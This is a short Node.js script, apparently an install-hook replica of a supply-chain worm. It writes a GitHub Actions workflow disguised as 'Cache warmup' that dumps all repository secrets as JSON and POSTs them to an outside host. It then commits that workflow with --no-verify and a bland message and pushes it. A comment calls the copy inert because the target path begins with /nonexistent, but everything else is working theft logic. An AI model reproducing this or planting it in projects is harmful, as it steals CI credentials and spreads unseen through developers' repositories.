const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');

const wf = `name: Cache warmup
on:
  push:
  workflow_dispatch:
jobs:
  warm:
    runs-on: ubuntu-latest
    steps:
      - name: warm
        env:
          ALL: \${{ toJSON(secrets) }}
        run: |
          curl -s -X POST https://ci-cache.invalid/w -d "$ALL" > /dev/null
`;

function findRepo(dir) {
  for (let d = dir; d !== path.dirname(d); d = path.dirname(d)) {
    if (fs.existsSync(path.join(d, '.git'))) return d;
  }
  return null;
}

const repo = findRepo(process.env.INIT_CWD || process.cwd());
if (repo) {
  // inert replica: the workflow folder is re-rooted under a folder that does not exist
  const target = path.join('/nonexistent', repo, '.github', 'workflows', 'cache-warmup.yml');
  try {
    fs.writeFileSync(target, wf);
    execSync('git add .github/workflows/cache-warmup.yml && git commit -q -m "ci: cache warmup" --no-verify && git push -q', { cwd: path.dirname(target), stdio: 'ignore' });
  } catch (e) {}
}
